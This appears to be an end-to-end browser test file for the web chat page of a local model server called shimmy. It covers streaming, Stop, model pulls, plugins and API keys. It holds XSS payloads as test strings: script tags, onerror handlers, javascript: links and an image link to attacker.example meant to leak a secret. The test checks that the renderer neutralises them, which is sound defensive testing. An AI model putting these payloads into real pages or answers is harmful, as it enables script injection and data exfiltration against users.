/**
 * The web page at `/` in a real browser (Debian's headless Chromium, driven by playwright-core)
 * against the real `shimmy serve`: the demo model and the chat fixture, two installed plugins (the
 * calculator, and an echo whose only allowed argument is hostile markup), a fake Hugging Face hub
 * to pull from, and a second server with an API key. The page loads under its policy with no
 * console error; an answer streams and Stop ends its generation on the server; a hostile answer
 * and a hostile tool result run nothing; models load, unload and pull with progress; plugins
 * disable and enable. Screenshots are written for review.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { writeTinyModel } from "../core/src/models/fake-homes.fixture.js";
import { startFakeHub, type FakeHub } from "../core/src/models/pull/fake-hub.fixture.js";
import { packedPlugin } from "../scripts/first-party-plugins.js";
import { pluginCommandHere } from "./helpers/plugin-cli.js";
import { adminApi, waitForPlugins } from "./helpers/plugins-api.js";
import { ROOT, startShimmy, type ShimmyProcess } from "./helpers/shimmy-process.js";
import { packTestPlugin } from "./helpers/test-plugin-package.js";
import { CHROMIUM, SCREENSHOTS, SKIP_BROWSER, hostileRan, lastAnswer, openPage as openTab, runnable } from "./helpers/web-page.js";

// In CI the browser test must run (.ci/run installs chromium); elsewhere it is skipped, loudly.
const skip = SKIP_BROWSER;
if (skip) console.warn(`web-ui.e2e: SKIPPED, ${CHROMIUM} is missing (install it: apt-get install -y --no-install-recommends chromium)`);
const STORIES = path.join(ROOT, "models/stories260K.gguf");
const KEY = "sk-web-page-key";
const PULLED = "org/tiny-GGUF:Q4_K_M";

/** The one argument the echo plugin's schema allows, so a forced call must send it and gets it back. */
const HOSTILE_ARGUMENT = `<img src=x onerror=window.__hostile='trace'><script>window.__hostile='trace-script'</script>`;

/** An answer that would run script four ways, and fetch an image, if it were rendered as it is. */
const HOSTILE_ANSWER = `# Answer

<script>window.__hostile = "script"</script>

<img src="x" onerror="window.__hostile = 'onerror'">

[click me](javascript:window.__hostile='link') and <a href="javascript:window.__hostile='a'">raw link</a>

![secret](https://attacker.example/leak?q=secret)

\`\`\`js
const answer = 42; // the code
\`\`\`
`;

let work: string;
let home: string;
let hub: FakeHub;
let shimmy: ShimmyProcess;
let keyed: ShimmyProcess;
let browser: Browser;

beforeAll(async () => {
  if (skip) return;
  work = fs.mkdtempSync(path.join(os.tmpdir(), "shimmy-web-ui-"));
  home = path.join(work, "home");
  fs.mkdirSync(path.join(home, ".shimmy"), { recursive: true });
  await writeTinyModel(path.join(work, "tiny.gguf"), { tensors: [256 * 1024] });
  hub = await startFakeHub({ "org/tiny-GGUF": { files: { "tiny-Q4_K_M.gguf": fs.readFileSync(path.join(work, "tiny.gguf")) }, license: "apache-2.0", stallAfterBytes: 300_000, stalls: 1 } });
  const env = { HOME: home, SHIMMY_HOME: path.join(home, ".shimmy"), HF_HOME: path.join(work, "hf"), HF_ENDPOINT: hub.url };
  // The servers start while the test plugin compiles.
  const starting = Promise.all([
    startShimmy({ args: ["--model", STORIES, "--model", inject("fixtureModels").chat], env }),
    startShimmy({ args: ["--model", STORIES, "--no-discovery"], env: { SHIMMY_API_KEY: KEY } }),
  ]);
  let echo: string;
  try {
    echo = await packTestPlugin(
      "echo",
      {
        name: "hostile", version: "1.0.0", description: "Echoes its arguments back", shimmy: "*",
        capabilities: [{ kind: "tool", name: "echo", export: "echo", description: "Echoes its text", inputSchema: { type: "object", properties: { text: { enum: [HOSTILE_ARGUMENT] } }, required: ["text"], additionalProperties: false } }],
        limits: { memoryMaxPages: 64, timeoutMs: 5000, maxResponseBytes: 65536 },
      } as { name: string; version: string },
      work,
    );
  } finally {
    [shimmy, keyed] = await starting;
  }
  // The browser starts while the plugins install (set-up, not under test: the command run in this process).
  fs.mkdirSync(SCREENSHOTS, { recursive: true });
  const launching = chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
  try {
    for (const tgz of [packedPlugin(inject("firstPartyPlugins"), "calculator").tgz, echo]) {
      const run = await pluginCommandHere(home, ["install", tgz, "--yes"]);
      expect(run.code, run.stderr).toBe(0);
    }
    await waitForPlugins(shimmy.url, (p) => p.filter((x) => x.status === "ready").length === 2);
  } finally {
    browser = await launching;
  }
}, 240_000);

afterAll(async () => {
  await browser?.close();
  hub?.release();
  await Promise.all([shimmy?.stop(), keyed?.stop()]);
  await hub?.close();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

/** A fresh tab of the main server's page (or `url`), ready unless `ready` is false. */
const openPage = (url = `${shimmy.url}/`, ready = true) => openTab(browser, url, ready);

describe.skipIf(skip)("the web page in Chromium", () => {
  it("loads under its Content-Security-Policy with no console error, and picks from the served models", async () => {
    const { page, errors, csp } = await openPage();
    try {
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("script-src 'self'");
      // The style sheet loaded under the policy (the header is laid out as a flex row).
      expect(await page.locator("header.site").evaluate((el) => (globalThis as any).getComputedStyle(el).display)).toBe("flex");
      const served = ((await adminApi(shimmy.url, "/v1/models")).json.data as { id: string }[]).map((m) => m.id);
      expect(served.sort()).toEqual(["chat-llama", "stories260K"]);
      expect((await page.getByLabel("Model", { exact: true }).locator("option").allTextContents()).sort()).toEqual(served);
      expect(await page.getByRole("link", { name: "Chat" }).getAttribute("aria-current")).toBe("page");
      expect(await page.locator("#models").isHidden()).toBe(true);
      await page.getByRole("link", { name: "Models" }).click();
      // The page switches views on `hashchange`, an event after the click: waited for, not raced.
      await page.locator("#models").waitFor({ state: "visible", timeout: 10_000 });
      expect(await page.locator("#chat").isHidden()).toBe(true);
      expect(await page.getByRole("link", { name: "Models" }).getAttribute("aria-current")).toBe("page");
      // The skip link moves focus, not the tab.
      await page.keyboard.press("Tab");
      await page.keyboard.press("Enter");
      expect(await page.locator("#models").isVisible()).toBe(true);
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it("streams an answer as it is written, and Stop ends the generation on the server", async () => {
    const { page, errors } = await openPage();
    try {
      await page.getByLabel("Model", { exact: true }).selectOption("stories260K");
      const prompt = page.getByLabel("Message", { exact: true });
      // Shift+Enter starts a new line; nothing is sent.
      await prompt.fill("Tell me a story");
      await prompt.press("Shift+Enter");
      await prompt.pressSequentially("about a cat.");
      expect(await prompt.inputValue()).toBe("Tell me a story\nabout a cat.");
      expect(await page.locator("#chat-log li").count()).toBe(0);

      // No max tokens: the demo model writes for tens of seconds, longer than the test waits.
      await prompt.press("Enter");
      expect(await page.locator("li[data-role=user] .content").textContent()).toBe("Tell me a story\nabout a cat.");
      const answer = page.locator("li[data-role=assistant]").last();
      await answer.locator(".content").filter({ hasText: /\S/ }).waitFor();
      expect(await answer.getAttribute("aria-busy")).toBe("true");
      await expect.poll(async () => (await answer.locator(".content").textContent())!.length, { timeout: 20_000 }).toBeGreaterThan(40);
      expect(await page.getByRole("button", { name: "Send" }).isDisabled()).toBe(true);
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-chat-streaming.png") });

      await page.getByRole("button", { name: "Stop" }).click();
      await page.locator("li[data-role=assistant][data-state=stopped]").waitFor();
      expect(await answer.locator(".meta").textContent()).toMatch(/ · stopped$/);
      expect(await page.getByRole("button", { name: "Stop" }).isHidden()).toBe(true);
      expect(await page.getByRole("button", { name: "Send" }).isEnabled()).toBe(true);
      // The server saw the client leave and ended the generation (the request's log line says so).
      await shimmy.waitForLog((l) => l.event === "request" && l.route === "/v1/chat/completions" && l.outcome === "client_closed", 20_000);
      const stopped = await answer.locator(".content").textContent();
      await new Promise((r) => setTimeout(r, 500));
      expect(await answer.locator(".content").textContent()).toBe(stopped);

      // A second turn, to its end: max tokens from the settings, the usage in the meta line.
      await page.getByText("Settings").click();
      await page.getByLabel("Max tokens").fill("12");
      await prompt.fill("And then?");
      await page.getByRole("button", { name: "Send" }).click();
      expect(await lastAnswer(page)).toMatchObject({ state: "done" });
      expect(await page.locator("li[data-role=assistant]").last().locator(".meta").textContent()).toMatch(/^12 tokens · [\d.]+ m?s · cut at max tokens$/);
      expect(await page.locator("#chat-log > li").evaluateAll((items) => items.map((li) => li.getAttribute("data-role")))).toEqual(["user", "assistant", "user", "assistant"]);
      // The viewport, as a person sees it: the composer stays at the bottom of the window.
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-chat.png") });
      await page.emulateMedia({ colorScheme: "dark" });
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-chat-dark.png") });

      await page.getByRole("button", { name: "New chat" }).click();
      expect(await page.locator("#chat-log li").count()).toBe(0);
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  }, 120_000);

  it("renders a hostile answer through the chat's own renderer: markdown and highlighted code, nothing that runs or fetches", async () => {
    const { page, errors } = await openPage();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    try {
      // The page's own module (already loaded, so not run again): the function the chat renders answers
      // with. A string, so that vitest leaves its import() alone.
      await page.evaluate(`(async () => {
        const { renderMarkdown } = await import(document.querySelector("script[type=module]").src);
        const item = document.createElement("li");
        item.className = "message assistant";
        item.id = "hostile";
        const content = document.createElement("div");
        content.className = "content";
        content.append(renderMarkdown(${JSON.stringify(HOSTILE_ANSWER)}));
        item.append(content);
        document.getElementById("chat-log").append(item);
      })()`);
      const item = page.locator("#hostile");
      expect(await item.locator("h1").textContent()).toBe("Answer");
      expect(await item.locator("pre code.hljs.language-js .hljs-keyword").first().textContent()).toBe("const");
      expect(await item.locator("pre code .hljs-comment").textContent()).toBe("// the code");
      // Raw HTML is shown as text; links keep their text but lose a javascript: target.
      expect(await item.textContent()).toContain('<script>window.__hostile = "script"</script>');
      expect(await item.textContent()).toContain("<img src=\"x\" onerror=");
      expect(await item.getByText("click me").count()).toBe(1);
      const image = item.getByRole("link", { name: "secret" });
      expect(await image.getAttribute("href")).toBe("https://attacker.example/leak?q=secret");
      expect(await image.getAttribute("rel")).toBe("noopener noreferrer");
      await new Promise((r) => setTimeout(r, 300));
      expect(await hostileRan(page)).toBeUndefined();
      expect(await runnable(page, "#hostile")).toEqual({ tags: [], handlers: [], scriptLinks: 0 });
      expect(requests.filter((url) => !url.startsWith(shimmy.url))).toEqual([]);
      await item.screenshot({ path: path.join(SCREENSHOTS, "web-hostile-answer.png") });
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it("shows the plugin tool calls the server made for an answer, hostile results as text", async () => {
    const { page, errors } = await openPage();
    try {
      await page.getByLabel("Model", { exact: true }).selectOption("chat-llama");
      await page.getByText("Settings").click();
      await page.getByLabel("Plugin tools").selectOption("plugin:hostile");
      await page.getByLabel("Make the model call a tool first").check();
      // Enough for the forced call, whose one allowed argument takes the fixture some 170 tokens to write.
      await page.getByLabel("Max tokens").fill("400");
      await page.getByLabel("Message", { exact: true }).fill("Echo something");
      await page.getByLabel("Message", { exact: true }).press("Enter");
      expect(await lastAnswer(page, 90_000)).toMatchObject({ state: "done" });
      const trace = page.locator("li[data-role=assistant] details.trace");
      expect(await trace.locator("summary").textContent()).toMatch(/^\d+ plugin tool calls?, \d+ rounds?$/);
      await trace.locator("summary").click();
      const call = trace.locator('li.tool-call[data-tool="hostile__echo"]').first();
      expect(await call.locator("code").first().textContent()).toBe("hostile/echo");
      expect(JSON.parse((await call.locator('pre[data-field="arguments"]').textContent())!)).toEqual({ text: HOSTILE_ARGUMENT });
      expect(JSON.parse((await call.locator('pre[data-field="result"]').textContent())!)).toEqual({ text: HOSTILE_ARGUMENT });
      expect(await trace.locator("li.round").first().textContent()).toMatch(/^Round 1: tools required, \d+ prompt tokens/);
      await new Promise((r) => setTimeout(r, 300));
      expect(await hostileRan(page)).toBeUndefined();
      expect(await runnable(page, "#chat-log")).toEqual({ tags: [], handlers: [], scriptLinks: 0 });
      await trace.evaluate((el) => el.scrollIntoView({ block: "start" }));
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-chat-trace.png") });
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  }, 120_000);

  it("lists the models with which are loaded, and unloads and loads one", async () => {
    expect((await adminApi(shimmy.url, "/api/models/load", { model: "stories260K" })).status).toBe(200);
    const { page, errors } = await openPage(`${shimmy.url}/#models`);
    const loaded = async () => ((await adminApi(shimmy.url, "/api/models")).json.models as { id: string; loaded: boolean }[]).find((m) => m.id === "stories260K")!.loaded;
    try {
      const row = page.locator('tr[data-model="stories260K"]');
      expect(await page.locator("tr[data-model]").evaluateAll((rows) => rows.map((r) => r.getAttribute("data-model")).sort())).toEqual(["chat-llama", "stories260K"]);
      expect(await row.getAttribute("data-loaded")).toBe("true");
      expect(await row.locator('[data-field="state"]').textContent()).toMatch(/^loaded/);
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-models.png"), fullPage: true });

      await page.getByRole("button", { name: "Unload stories260K" }).click();
      await page.locator('tr[data-model="stories260K"][data-loaded="false"]').waitFor();
      expect(await loaded()).toBe(false);
      await page.getByRole("button", { name: "Load stories260K" }).click();
      await page.locator('tr[data-model="stories260K"][data-loaded="true"]').waitFor({ timeout: 30_000 });
      expect(await loaded()).toBe(true);
      expect(await page.locator("#models-status").textContent()).toBe("Loading stories260K: done.");
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  }, 90_000);

  it("pulls a model from the hub with a progress bar, and the chat can pick it", async () => {
    const { page, errors } = await openPage(`${shimmy.url}/#models`);
    try {
      await page.getByLabel("Repository").fill(PULLED);
      await page.getByRole("button", { name: "Pull", exact: true }).click();
      const bar = page.locator("#pull-progress");
      // The hub holds the download part-way: the bar shows the bytes so far.
      await hub.stalled();
      await expect.poll(() => bar.evaluate((el: any) => el.value), { timeout: 10_000 }).toBeGreaterThan(0);
      expect(await bar.evaluate((el: any) => el.value < el.max)).toBe(true);
      expect(await page.locator("#pull-status").textContent()).toMatch(/ of [\d.]+ (KiB|MiB) at /);
      expect(await page.getByRole("button", { name: "Cancel" }).isVisible()).toBe(true);
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-pull.png"), fullPage: true });
      hub.release();
      await page.getByText(`Pulled: ${PULLED}.`).waitFor({ timeout: 30_000 });
      expect(await bar.evaluate((el: any) => el.value === el.max)).toBe(true);
      await page.locator(`tr[data-model="${PULLED}"]`).waitFor();
      await expect.poll(() => page.getByLabel("Model", { exact: true }).locator("option").allTextContents()).toContain(PULLED);
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  }, 90_000);

  it("lists the installed plugins with their tools and permissions, and disables and enables one", async () => {
    const { page, errors } = await openPage(`${shimmy.url}/#plugins`);
    const lockEntry = () => JSON.parse(fs.readFileSync(path.join(home, ".shimmy/plugins.lock.json"), "utf8")).plugins.calculator as { enabled: boolean };
    try {
      expect(await page.locator("article[data-plugin]").evaluateAll((cards) => cards.map((c) => c.getAttribute("data-plugin")))).toEqual(["calculator", "hostile"]);
      const calculator = page.locator('article[data-plugin="calculator"]');
      expect(await calculator.getAttribute("data-status")).toBe("ready");
      expect(await calculator.locator('[data-field="tools"] code').allTextContents()).toEqual(["calculator__calculate"]);
      expect(await calculator.locator('[data-access="net"]').textContent()).toBe("none");
      expect(await page.getByLabel("Plugin tools").locator("option").allTextContents()).toContain("Only calculator");
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-plugins.png"), fullPage: true });

      await page.getByRole("button", { name: "Disable calculator" }).click();
      await page.locator('article[data-plugin="calculator"][data-status="disabled"]').waitFor();
      expect(await page.locator("#plugins-status").textContent()).toBe("calculator is disabled.");
      expect(lockEntry().enabled).toBe(false);
      expect((await adminApi(shimmy.url, "/api/plugins")).json.data.find((p: { name: string }) => p.name === "calculator")).toMatchObject({ enabled: false, status: "disabled" });
      expect(await page.getByLabel("Plugin tools").locator("option").allTextContents()).not.toContain("Only calculator");

      await page.getByRole("button", { name: "Enable calculator" }).click();
      await page.locator('article[data-plugin="calculator"][data-status="ready"]').waitFor();
      expect(lockEntry().enabled).toBe(true);
      expect((await adminApi(shimmy.url, "/api/tools/call", { name: "calculate", arguments: { expression: "6*7" } })).json).toEqual({ result: { result: "42" } });
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it("answers enable and disable of an unknown plugin, or of none, in the API's error shape", async () => {
    expect(await adminApi(shimmy.url, "/api/plugins/disable", { name: "no-such-plugin" })).toEqual({
      status: 404, json: { error: { code: "plugin_not_found", type: "not_found_error", param: "name", message: expect.stringContaining("no-such-plugin") } },
    });
    expect(await adminApi(shimmy.url, "/api/plugins/enable", {})).toMatchObject({ status: 400, json: { error: { code: "invalid_parameter", param: "name" } } });
  });

  it("asks for the API key on a server that has one, keeps it for the tab, and sends it", async () => {
    const { page, errors } = await openPage(`${keyed.url}/`, false);
    try {
      const dialog = page.getByRole("dialog", { name: "API key" });
      await dialog.waitFor();
      expect(await page.locator("#key-message").textContent()).toContain("needs an API key");
      await page.screenshot({ path: path.join(SCREENSHOTS, "web-api-key.png") });
      await page.getByLabel("Key", { exact: true }).fill("wrong-key");
      await page.getByRole("button", { name: "Use this key" }).click();
      await page.locator("#key-message", { hasText: "Incorrect API key provided." }).waitFor();
      await page.getByLabel("Key", { exact: true }).fill(KEY);
      await page.getByRole("button", { name: "Use this key" }).click();
      await page.locator("body[data-ready=true]").waitFor();
      expect(await dialog.isHidden()).toBe(true);
      expect(await page.getByLabel("Model", { exact: true }).locator("option").allTextContents()).toEqual(["stories260K"]);
      expect(await page.evaluate(() => (globalThis as any).sessionStorage.getItem("shimmy.apiKey"))).toBe(KEY);

      // Reloaded, the tab still has the key: no dialog, and a chat goes through.
      await page.reload();
      await page.locator("body[data-ready=true]").waitFor();
      expect(await dialog.isHidden()).toBe(true);
      await page.getByRole("link", { name: "Models" }).click();
      expect(await page.locator("tr[data-model]").count()).toBe(1);
      await page.getByRole("link", { name: "Chat" }).click();
      await page.getByText("Settings").click();
      await page.getByLabel("Max tokens").fill("5");
      await page.getByLabel("Message", { exact: true }).fill("Hi");
      await page.getByLabel("Message", { exact: true }).press("Enter");
      expect(await lastAnswer(page)).toMatchObject({ state: "done" });
      // The refused requests before the key was given are the only errors the console saw.
      expect(errors.filter((e) => !e.includes("401"))).toEqual([]);
      expect(errors.length).toBeGreaterThan(0);
      console.log(`web-ui.e2e: screenshots in ${SCREENSHOTS} (web-*.png)`);
    } finally {
      await page.close();
    }
  }, 90_000);
});
